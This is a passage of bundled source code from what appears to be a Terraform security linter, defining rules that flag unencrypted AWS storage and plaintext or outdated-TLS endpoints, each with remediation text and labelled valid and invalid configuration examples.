        code: `resource "aws_launch_configuration" "workers" {
  image_id      = data.aws_ami.al2023.id
  instance_type = "m6i.large"

  root_block_device {
    volume_size = 50
    encrypted   = false
  }
}
`,
        errors: [{ line: 7, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-launch-template-volume-encryption.ts
var aws_launch_template_volume_encryption_default = defineRule({
  meta: {
    id: "aws-launch-template-volume-encryption",
    title: "Launch template block device mapping creates unencrypted EBS volumes",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_launch_template"],
    description: "A `block_device_mappings` entry of the template defines an EBS volume without `encrypted = true`, so instances launched from it get disks that are not encrypted at rest unless EBS encryption by default is on for the account. Templates that leave volumes to the AMI are not reported.",
    remediation: "Set `encrypted = true` (and `kms_key_id`) in the `ebs` block of every block device mapping, or enable EBS encryption by default for the account and region.",
    precision: "medium",
    cwe: ["CWE-311"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.2.1"] },
    tags: ["ec2", "launch-template", "ebs", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/launch_template#block-devices"
    ]
  },
  check(template, { report }) {
    for (const mapping of blocksOf(template.attributes, "block_device_mappings") ?? []) {
      for (const { block, at } of blocksOf(mapping.block, "ebs", mapping.at) ?? []) {
        const problem = volumeProblem(block, at);
        if (!problem) continue;
        const device = typeof mapping.block.device_name === "string" ? ` ${mapping.block.device_name}` : "";
        report({ at: problem.at, message: `Launch template ${template.name}: EBS volume${device} is not encrypted at rest` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_launch_template" "nodes" {
  name_prefix   = "nodes-"
  image_id      = data.aws_ami.eks.id
  instance_type = "m6i.large"

  block_device_mappings {
    device_name = "/dev/xvda"

    ebs {
      volume_size = 80
      volume_type = "gp3"
      encrypted   = true
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_launch_template" "nodes" {
  name_prefix   = "nodes-"
  image_id      = data.aws_ami.eks.id
  instance_type = "m6i.large"

  block_device_mappings {
    device_name = "/dev/xvda"

    ebs {
      volume_size = 80
      volume_type = "gp3"
    }
  }
}
`,
        errors: [{ line: 9, column: 5, messageIncludes: "/dev/xvda" }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-lb-listener-http.ts
var LISTENER_RULE_TYPES = /* @__PURE__ */ new Set(["aws_lb_listener_rule", "aws_alb_listener_rule"]);
function isSafeOverHttp(action) {
  if (!isObject(action)) return void 0;
  if (isUnknown(action.type)) return void 0;
  if (action.type === "fixed-response") return true;
  if (action.type !== "redirect") return false;
  const redirect = asList(action.redirect)[0];
  if (!isObject(redirect) || isUnknown(redirect.protocol)) return void 0;
  return typeof redirect.protocol === "string" && redirect.protocol.toUpperCase() === "HTTPS";
}
function servesOverHttp(actions) {
  if (isUnknown(actions)) return void 0;
  let unknown = false;
  for (const action of asList(actions)) {
    const safe = isSafeOverHttp(action);
    if (safe === false) return true;
    if (safe === void 0) unknown = true;
  }
  return unknown ? void 0 : false;
}
var aws_lb_listener_http_default = defineRule({
  meta: {
    id: "aws-lb-listener-http",
    title: "Load balancer HTTP listener serves traffic without TLS",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_lb_listener", "aws_alb_listener"],
    description: "The Application Load Balancer listener uses plain HTTP and forwards requests to targets instead of redirecting them to HTTPS, so credentials, cookies and response data cross the network unencrypted and can be altered in transit.",
    remediation: 'Serve the application on an HTTPS listener with an ACM certificate, and make the HTTP listener\'s default action `redirect { protocol = "HTTPS" port = "443" status_code = "HTTP_301" }`.',
    precision: "high",
    cwe: ["CWE-319"],
    tags: ["elb", "alb", "encryption-in-transit", "http"],
    references: [
      "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-listeners.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lb_listener"
    ]
  },
  check(listener, { graph, report }) {
    const attributes = listener.attributes;
    const protocol = attributes.protocol;
    if (isUnknown(protocol)) return;
    const plainHttp = typeof protocol === "string" ? protocol.toUpperCase() === "HTTP" : isUnset(attributes.certificate_arn) && isUnset(attributes.ssl_policy) && attributes.port === 80;
    if (!plainHttp) return;
    const defaults = blocksOf(attributes, "default_action");
    if (defaults === void 0) return;
    let serves = servesOverHttp(defaults.map(({ block }) => block));
    if (serves === false) {
      const rules = graph.sources(listener.id, "references").filter((resource) => LISTENER_RULE_TYPES.has(resource.type));
      serves = rules.some((rule) => servesOverHttp(rule.attributes.action) === true);
    }
    if (!serves) return;
    const at = typeof protocol === "string" ? ["protocol"] : void 0;
    report({ at, message: `Load balancer listener ${listener.name} serves plain HTTP without TLS instead of redirecting to HTTPS` });
  },
  examples: {
    valid: [
      {
        name: "HTTP redirected to HTTPS",
        filename: "main.tf",
        code: `resource "aws_lb_listener" "http" {
  load_balancer_arn = aws_lb.web.arn
  port              = 80
  protocol          = "HTTP"

  default_action {
    type = "redirect"

    redirect {
      port        = "443"
      protocol    = "HTTPS"
      status_code = "HTTP_301"
    }
  }
}
`
      },
      {
        name: "HTTPS listener",
        filename: "main.tf",
        code: `resource "aws_lb_listener" "https" {
  load_balancer_arn = aws_lb.web.arn
  port              = 443
  protocol          = "HTTPS"
  ssl_policy        = "ELBSecurityPolicy-TLS13-1-2-2021-06"
  certificate_arn   = aws_acm_certificate.web.arn

  default_action {
    type             = "forward"
    target_group_arn = aws_lb_target_group.web.arn
  }
}
`
      }
    ],
    invalid: [
      {
        name: "forwards over HTTP",
        filename: "main.tf",
        code: `resource "aws_lb_listener" "http" {
  load_balancer_arn = aws_lb.web.arn
  port              = 80
  protocol          = "HTTP"

  default_action {
    type             = "forward"
    target_group_arn = aws_lb_target_group.web.arn
  }
}
`,
        errors: [{ line: 4, column: 3 }]
      },
      {
        name: "a listener rule forwards over HTTP",
        filename: "main.tf",
        code: `resource "aws_alb_listener" "http" {
  load_balancer_arn = aws_lb.web.arn
  port              = 80
  protocol          = "HTTP"

  default_action {
    type = "fixed-response"

    fixed_response {
      content_type = "text/plain"
      status_code  = "404"
    }
  }
}

resource "aws_lb_listener_rule" "api" {
  listener_arn = aws_alb_listener.http.arn

  action {
    type             = "forward"
    target_group_arn = aws_lb_target_group.api.arn
  }

  condition {
    path_pattern {
      values = ["/api/*"]
    }
  }
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-lb-listener-outdated-tls-policy.ts
var aws_lb_listener_outdated_tls_policy_default = defineRule({
  meta: {
    id: "aws-lb-listener-outdated-tls-policy",
    title: "Load balancer listener TLS policy accepts TLS 1.0 or 1.1",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_lb_listener", "aws_alb_listener"],
    description: "The listener's `ssl_policy` still negotiates TLS 1.0 or 1.1 (for example `ELBSecurityPolicy-2016-08` or `ELBSecurityPolicy-TLS-1-0-2015-04`). These versions are deprecated (RFC 8996), rely on weak ciphers and let an attacker in the path downgrade clients.",
    remediation: "Use a TLS 1.2+ policy such as `ELBSecurityPolicy-TLS13-1-2-2021-06`.",
    precision: "very-high",
    cwe: ["CWE-327"],
    tags: ["elb", "alb", "nlb", "encryption-in-transit", "tls"],
    references: [
      "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/describe-ssl-policies.html",
      "https://docs.aws.amazon.com/elasticloadbalancing/latest/network/describe-ssl-policies.html"
    ]
  },
  check(listener, { report }) {
    const policy = listener.attributes.ssl_policy;
    if (isOutdatedElbPolicy(policy)) {
      report({ at: ["ssl_policy"], message: `Load balancer listener ${listener.name} accepts TLS 1.0/1.1 (ssl_policy = "${policy}")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_lb_listener" "https" {
  load_balancer_arn = aws_lb.web.arn
  port              = 443
  protocol          = "HTTPS"
  ssl_policy        = "ELBSecurityPolicy-TLS13-1-2-2021-06"
  certificate_arn   = aws_acm_certificate.web.arn

  default_action {
    type             = "forward"
    target_group_arn = aws_lb_target_group.web.arn
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_lb_listener" "https" {
  load_balancer_arn = aws_lb.web.arn
  port              = 443
  protocol          = "HTTPS"
  ssl_policy        = "ELBSecurityPolicy-2016-08"
  certificate_arn   = aws_acm_certificate.web.arn

  default_action {
    type             = "forward"
    target_group_arn = aws_lb_target_group.web.arn
  }
}
`,
        errors: [{ line: 5, column: 3 }]
      },
      {
        name: "NLB TLS listener with a TLS 1.0 policy",
        filename: "main.tf",
        code: `resource "aws_lb_listener" "tls" {
  load_balancer_arn = aws_lb.mqtt.arn
  port              = 8883
  protocol          = "TLS"
  ssl_policy        = "ELBSecurityPolicy-TLS-1-0-2015-04"
  certificate_arn   = aws_acm_certificate.mqtt.arn
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-msk-customer-managed-key.ts
var aws_msk_customer_managed_key_default = defineRule({
  meta: {
    id: "aws-msk-customer-managed-key",
    title: "MSK cluster not encrypted at rest with a customer-managed KMS key",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_msk_cluster"],
    description: "MSK always encrypts broker storage, but without `encryption_at_rest_kms_key_arn` it uses the AWS-managed `aws/kafka` key, whose policy the account cannot restrict. A customer-managed key lets you limit and audit who can read topic data on disk.",
    remediation: "Set `encryption_info { encryption_at_rest_kms_key_arn = aws_kms_key.kafka.arn }` when creating the cluster.",
    precision: "medium",
    cwe: ["CWE-311"],
    tags: ["msk", "kafka", "kms", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/msk/latest/developerguide/msk-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/msk_cluster#encryption_at_rest_kms_key_arn"
    ]
  },
  check(cluster, { report }) {
    const info = singleBlock(cluster.attributes, "encryption_info");
    if (info === "unknown") return;
    const key = info ? getPath(info.block, ["encryption_at_rest_kms_key_arn"]) : void 0;
    if (isUnknown(key) || !isUnset(key)) return;
    report({ at: info?.at, message: `MSK cluster ${cluster.name} is encrypted at rest with the AWS-managed key, not a customer-managed KMS key` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_msk_cluster" "events" {
  cluster_name           = "events"
  kafka_version          = "3.6.0"
  number_of_broker_nodes = 3

  encryption_info {
    encryption_at_rest_kms_key_arn = aws_kms_key.kafka.arn
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_msk_cluster" "events" {
  cluster_name           = "events"
  kafka_version          = "3.6.0"
  number_of_broker_nodes = 3
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-msk-encryption-in-transit.ts
var PLAINTEXT_CLIENT_BROKER = /* @__PURE__ */ new Set(["PLAINTEXT", "TLS_PLAINTEXT"]);
var aws_msk_encryption_in_transit_default = defineRule({
  meta: {
    id: "aws-msk-encryption-in-transit",
    title: "MSK cluster allows plaintext traffic (no TLS encryption in transit)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_msk_cluster"],
    description: "Kafka clients may connect to the brokers without TLS (`client_broker` of `PLAINTEXT` or `TLS_PLAINTEXT`), or brokers replicate to each other unencrypted (`in_cluster = false`), so messages and SASL credentials can be read on the network.",
    remediation: 'Set `encryption_info { encryption_in_transit { client_broker = "TLS" in_cluster = true } }` and move clients to the TLS listeners.',
    precision: "very-high",
    cwe: ["CWE-319"],
    tags: ["msk", "kafka", "encryption-in-transit", "tls"],
    references: [
      "https://docs.aws.amazon.com/msk/latest/developerguide/msk-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/msk_cluster#encryption_in_transit"
    ]
  },
  check(cluster, { report }) {
    const info = singleBlock(cluster.attributes, "encryption_info");
    if (!info || info === "unknown") return;
    const transit = singleBlock(info.block, "encryption_in_transit", info.at);
    if (!transit || transit === "unknown") return;
    const clientBroker = transit.block.client_broker;
    if (typeof clientBroker === "string" && PLAINTEXT_CLIENT_BROKER.has(clientBroker.toUpperCase())) {
      report({ at: [...transit.at, "client_broker"], message: `MSK cluster ${cluster.name} accepts plaintext client connections without TLS (client_broker = "${clientBroker}")` });
    }
    if (isFalse(transit.block.in_cluster)) {
      report({ at: [...transit.at, "in_cluster"], message: `MSK cluster ${cluster.name} replicates between brokers without TLS encryption in transit (in_cluster = false)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_msk_cluster" "events" {
  cluster_name           = "events"
  kafka_version          = "3.6.0"
  number_of_broker_nodes = 3

  encryption_info {
    encryption_in_transit {
      client_broker = "TLS"
      in_cluster    = true
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_msk_cluster" "events" {
  cluster_name           = "events"
  kafka_version          = "3.6.0"
  number_of_broker_nodes = 3

  encryption_info {
    encryption_in_transit {
      client_broker = "TLS_PLAINTEXT"
      in_cluster    = false
    }
  }
}
`,
        errors: [
          { line: 8, column: 7, messageIncludes: "plaintext client" },
          { line: 9, column: 7 }
        ]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-neptune-encryption-at-rest.ts
var aws_neptune_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-neptune-encryption-at-rest",
    title: "Neptune cluster storage not encrypted at rest",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_neptune_cluster"],
    description: "The graph database cluster keeps its storage, backups and snapshots unencrypted. Neptune encryption is fixed at creation: an unencrypted cluster has to be rebuilt from an encrypted snapshot copy to fix it.",
    remediation: "Set `storage_encrypted = true` and `kms_key_arn` to a customer-managed KMS key when creating the cluster.",
    precision: "very-high",
    cwe: ["CWE-311"],
    tags: ["neptune", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/neptune/latest/userguide/encrypt.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/neptune_cluster#storage_encrypted"
    ]
  },
  check(cluster, { report }) {
    const attributes = cluster.attributes;
    const encrypted = attributes.storage_encrypted;
    if (isTrue(encrypted) || isUnknown(encrypted)) return;
    if (isFalse(encrypted)) {
      report({ at: ["storage_encrypted"], message: `Neptune cluster ${cluster.name} is not encrypted at rest (storage_encrypted = false)` });
      return;
    }
    const inherits = ["snapshot_identifier", "replication_source_identifier", "global_cluster_identifier", "kms_key_arn"].some((key) => !isUnset(attributes[key]));
    if (!inherits) report({ message: `Neptune cluster ${cluster.name} does not set storage_encrypted = true, so its storage is not encrypted at rest` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_neptune_cluster" "graph" {
  cluster_identifier = "recommendations"
  engine             = "neptune"
  storage_encrypted  = true
  kms_key_arn        = aws_kms_key.neptune.arn
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_neptune_cluster" "graph" {
  cluster_identifier  = "recommendations"
  engine              = "neptune"
  skip_final_snapshot = true
  storage_encrypted   = false
}
`,
        errors: [{ line: 5, column: 3 }]
      },
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_neptune_cluster" "graph" {
  cluster_identifier = "recommendations"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-opensearch-encryption-at-rest.ts
var aws_opensearch_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-opensearch-encryption-at-rest",
    title: "OpenSearch / Elasticsearch domain not encrypted at rest",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: SEARCH_DOMAIN_TYPES,
    description: "The search domain stores its indices, logs, swap files and automated snapshots unencrypted. Search indices usually copy the most queried fields of the primary data (names, emails, documents).",
    remediation: "Add `encrypt_at_rest { enabled = true }` (with `kms_key_id` for a customer-managed key); older domains may first need an engine upgrade.",
    precision: "high",
    cwe: ["CWE-311"],
    tags: ["opensearch", "elasticsearch", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/opensearch-service/latest/developerguide/encryption-at-rest.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#encrypt_at_rest"
    ]
  },
  check(domain, { report }) {
    const block = singleBlock(domain.attributes, "encrypt_at_rest");
    if (block === "unknown") return;
    if (!block) {
      report({ message: `${domainKind(domain)} ${domain.name} has no encrypt_at_rest block, so its data is not encrypted at rest` });
      return;
    }
    const enabled = block.block.enabled;
    if (isTrue(enabled) || isUnknown(enabled)) return;
    report({ at: isFalse(enabled) ? [...block.at, "enabled"] : block.at, message: `${domainKind(domain)} ${domain.name} is not encrypted at rest (encrypt_at_rest disabled)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name    = "catalog"
  engine_version = "OpenSearch_2.13"

  encrypt_at_rest {
    enabled    = true
    kms_key_id = aws_kms_key.search.arn
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_elasticsearch_domain" "logs" {
  domain_name           = "logs"
  elasticsearch_version = "7.10"
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "disabled",
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name    = "catalog"
  engine_version = "OpenSearch_2.13"

  encrypt_at_rest {
    enabled = false
  }
}
`,
        errors: [{ line: 6, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-opensearch-https-not-enforced.ts
var aws_opensearch_https_not_enforced_default = defineRule({
  meta: {
    id: "aws-opensearch-https-not-enforced",
    title: "OpenSearch / Elasticsearch domain does not enforce HTTPS",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: SEARCH_DOMAIN_TYPES,
    description: "The domain endpoint accepts plain HTTP, so queries, indexed documents and signed requests can travel without TLS. Without a `domain_endpoint_options` block the service does not require HTTPS.",
    remediation: 'Add `domain_endpoint_options { enforce_https = true tls_security_policy = "Policy-Min-TLS-1-2-2019-07" }`.',
    precision: "high",
    cwe: ["CWE-319"],
    tags: ["opensearch", "elasticsearch", "encryption-in-transit", "https"],
    references: [
      "https://docs.aws.amazon.com/opensearch-service/latest/developerguide/infrastructure-security.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#enforce_https"
    ]
  },
  check(domain, { report }) {
    const options = singleBlock(domain.attributes, "domain_endpoint_options");
    if (options === "unknown") return;
    if (!options) {
      report({ message: `${domainKind(domain)} ${domain.name} does not enforce HTTPS (no domain_endpoint_options)` });
    } else if (isFalse(options.block.enforce_https)) {
      report({ at: [...options.at, "enforce_https"], message: `${domainKind(domain)} ${domain.name} does not enforce HTTPS (enforce_https = false)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name = "catalog"

  domain_endpoint_options {
    enforce_https       = true
    tls_security_policy = "Policy-Min-TLS-1-2-2019-07"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name = "catalog"

  domain_endpoint_options {
    enforce_https = false
  }
}
`,
        errors: [{ line: 5, column: 5 }]
      },
      {
        name: "no endpoint options",
        filename: "main.tf",
        code: `resource "aws_elasticsearch_domain" "logs" {
  domain_name = "logs"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-opensearch-node-to-node-encryption.ts
var aws_opensearch_node_to_node_encryption_default = defineRule({
  meta: {
    id: "aws-opensearch-node-to-node-encryption",
    title: "OpenSearch / Elasticsearch domain without node-to-node encryption (TLS)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: SEARCH_DOMAIN_TYPES,
    description: "Nodes of the domain exchange index data and search results without TLS, so traffic inside the cluster can be read by anything that can observe the VPC network. Node-to-node encryption is also a prerequisite for fine-grained access control.",
    remediation: "Add `node_to_node_encryption { enabled = true }`.",
    precision: "high",
    cwe: ["CWE-319"],
    tags: ["opensearch", "elasticsearch", "encryption-in-transit", "tls"],
    references: [
      "https://docs.aws.amazon.com/opensearch-service/latest/developerguide/ntn.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#node_to_node_encryption"
    ]
  },
  check(domain, { report }) {
    const block = singleBlock(domain.attributes, "node_to_node_encryption");
    if (block === "unknown") return;
    if (!block) {
      report({ message: `${domainKind(domain)} ${domain.name} has no node-to-node encryption: traffic between nodes is not protected by TLS` });
      return;
    }
    const enabled = block.block.enabled;
    if (isTrue(enabled) || isUnknown(enabled)) return;
    report({ at: isFalse(enabled) ? [...block.at, "enabled"] : block.at, message: `${domainKind(domain)} ${domain.name} has node-to-node encryption turned off: traffic between nodes is not protected by TLS` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name = "catalog"

  node_to_node_encryption {
    enabled = true
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name = "catalog"

  node_to_node_encryption {
    enabled = false
  }
}
`,
        errors: [{ line: 5, column: 5 }]
      },
      {
        name: "not configured",
        filename: "main.tf",
        code: `resource "aws_elasticsearch_domain" "logs" {
  domain_name = "logs"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-opensearch-outdated-tls-policy.ts
var aws_opensearch_outdated_tls_policy_default = defineRule({
  meta: {
    id: "aws-opensearch-outdated-tls-policy",
    title: "OpenSearch / Elasticsearch domain accepts TLS 1.0 and 1.1",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: SEARCH_DOMAIN_TYPES,
    description: "The endpoint's TLS security policy `Policy-Min-TLS-1-0-2019-07` still negotiates TLS 1.0 and 1.1, protocol versions with known weaknesses that are deprecated by the IETF (RFC 8996).",
    remediation: 'Set `tls_security_policy = "Policy-Min-TLS-1-2-2019-07"` (or a newer TLS 1.2/1.3 policy) in `domain_endpoint_options`.',
    precision: "very-high",
    cwe: ["CWE-327"],
    tags: ["opensearch", "elasticsearch", "encryption-in-transit", "tls"],
    references: [
      "https://docs.aws.amazon.com/opensearch-service/latest/APIReference/API_DomainEndpointOptions.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#tls_security_policy"
    ]
  },
  check(domain, { report }) {
    const options = singleBlock(domain.attributes, "domain_endpoint_options");
    if (!options || options === "unknown") return;
    if (options.block.tls_security_policy === OPENSEARCH_TLS_1_0_POLICY) {
      report({ at: [...options.at, "tls_security_policy"], message: `${domainKind(domain)} ${domain.name} accepts TLS 1.0 and 1.1 (tls_security_policy = "${OPENSEARCH_TLS_1_0_POLICY}")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name = "catalog"

  domain_endpoint_options {
    enforce_https       = true
    tls_security_policy = "Policy-Min-TLS-1-2-PFS-2023-10"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name = "catalog"

  domain_endpoint_options {
    enforce_https       = true
    tls_security_policy = "Policy-Min-TLS-1-0-2019-07"
  }
}
`,
        errors: [{ line: 6, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-rds-encryption-at-rest.ts
var INHERITS_ENCRYPTION = ["snapshot_identifier", "replicate_source_db", "replication_source_identifier", "restore_to_point_in_time", "global_cluster_identifier"];
var aws_rds_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-rds-encryption-at-rest",
    title: "RDS database or Aurora cluster storage not encrypted at rest",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_db_instance", "aws_rds_cluster"],
    description: "The database is created without storage encryption, so its data files, automated backups, read replicas and snapshots are all unencrypted. Encryption cannot be switched on later without copying a snapshot and restoring into a new instance.",
    remediation: "Set `storage_encrypted = true` and `kms_key_id` to a customer-managed KMS key when the database is created; for an existing database, restore an encrypted copy of its latest snapshot and switch over.",
    precision: "high",
    cwe: ["CWE-311"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.3.1"] },
    tags: ["rds", "aurora", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/Overview.Encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#storage_encrypted"
    ]
  },
  check(database, { report }) {
    const attributes = database.attributes;
    const encrypted = attributes.storage_encrypted;
    const kind = database.type === "aws_rds_cluster" ? "RDS cluster" : "RDS instance";
    if (isTrue(encrypted) || isUnknown(encrypted)) return;
    if (isFalse(encrypted)) {
      report({ at: ["storage_encrypted"], message: `${kind} ${database.name} is not encrypted at rest (storage_encrypted = false)` });
      return;
    }
    if (!isUnset(attributes.kms_key_id)) return;
    if (INHERITS_ENCRYPTION.some((key) => !isUnset(attributes[key]))) return;
    if (attributes.engine_mode === "serverless") return;
    report({ message: `${kind} ${database.name} does not set storage_encrypted = true, so its storage is not encrypted at rest` });
  },
  examples: {
    valid: [
      {
        name: "encrypted with a customer key",
        filename: "main.tf",
        code: `resource "aws_db_instance" "orders" {
  engine            = "postgres"
  instance_class    = "db.t4g.medium"
  allocated_storage = 50
  storage_encrypted = true
  kms_key_id        = aws_kms_key.rds.arn
}
`
      },
      {
        name: "read replica inherits the source's encryption",
        filename: "main.tf",
        code: `resource "aws_db_instance" "orders_replica" {
  replicate_source_db = aws_db_instance.orders.identifier
  instance_class      = "db.t4g.medium"
}
`
      }
    ],
    invalid: [
      {
        name: "instance explicitly unencrypted",
        filename: "main.tf",
        code: `resource "aws_db_instance" "orders" {
  engine            = "mysql"
  instance_class    = "db.t3.micro"
  allocated_storage = 20
  storage_encrypted = false
}
`,
        errors: [{ line: 5, column: 3, messageIncludes: "not encrypted at rest" }]
      },
      {
        name: "Aurora cluster without storage_encrypted",
        filename: "main.tf",
        code: `resource "aws_rds_cluster" "billing" {
  cluster_identifier = "billing"
  engine             = "aurora-postgresql"
  master_username    = "billing"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-redshift-encryption-at-rest.ts
var aws_redshift_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-redshift-encryption-at-rest",
    title: "Redshift cluster explicitly not encrypted at rest",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_redshift_cluster"],
    description: "`encrypted = false` keeps the data warehouse's blocks and snapshots unencrypted. New provisioned clusters are encrypted by AWS when nothing is said, so only an explicit `false` (kept from an older cluster or provider) leaves the data in clear.",
    remediation: "Set `encrypted = true` with `kms_key_id` pointing at a customer-managed KMS key; Redshift migrates an existing cluster to encrypted storage in place.",
    precision: "very-high",
    cwe: ["CWE-311"],
    tags: ["redshift", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/redshift/latest/mgmt/working-with-db-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/redshift_cluster#encrypted"
    ]
  },
  check(cluster, { report }) {
    if (isFalse(cluster.attributes.encrypted)) {
      report({ at: ["encrypted"], message: `Redshift cluster ${cluster.name} is not encrypted at rest (encrypted = false)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_redshift_cluster" "analytics" {
  cluster_identifier = "analytics"
  node_type          = "ra3.xlplus"
  encrypted          = true
  kms_key_id         = aws_kms_key.redshift.arn
}
`
      },
      {
        name: "encrypted by default when unset",
        filename: "main.tf",
        code: `resource "aws_redshift_cluster" "analytics" {
  cluster_identifier = "analytics"
  node_type          = "ra3.xlplus"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_redshift_cluster" "analytics" {
  cluster_identifier = "analytics"
  node_type          = "dc2.large"
  encrypted          = false
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-s3-bucket-policy-allows-insecure-transport.ts
var aws_s3_bucket_policy_allows_insecure_transport_default = defineRule({
  meta: {
    id: "aws-s3-bucket-policy-allows-insecure-transport",
    title: "S3 bucket policy does not deny requests without TLS (aws:SecureTransport)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_s3_bucket_policy", "aws_s3_bucket"],
    description: "The bucket has a policy, but no statement denies requests made over plain HTTP (`aws:SecureTransport` = `false`). S3 accepts unencrypted HTTP requests, so credentials' signatures and object contents can cross the network in clear text, open to interception and tampering.",
    remediation: 'Add a statement with `Effect = "Deny"`, `Principal = "*"`, `Action = "s3:*"`, the bucket and `bucket/*` as resources, and `Condition = { Bool = { "aws:SecureTransport" = "false" } }`.',
    precision: "high",
    cwe: ["CWE-319"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.1.1"] },
    tags: ["s3", "encryption-in-transit", "tls"],
    references: ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/security-best-practices.html#transit"]
  },
  check(resource, { graph, report }) {
    const policy = policyAt(graph, resource, ["policy"]);
    if (!policy || policy.statements.length === 0) return;
    if (policy.statements.some((statement) => statement.partial) || policy.statements.some(deniesInsecureTransport)) return;
    report({ at: policy.at, message: `${resource.name}: the bucket policy does not deny requests without TLS (no Deny on aws:SecureTransport = false)` });
  },
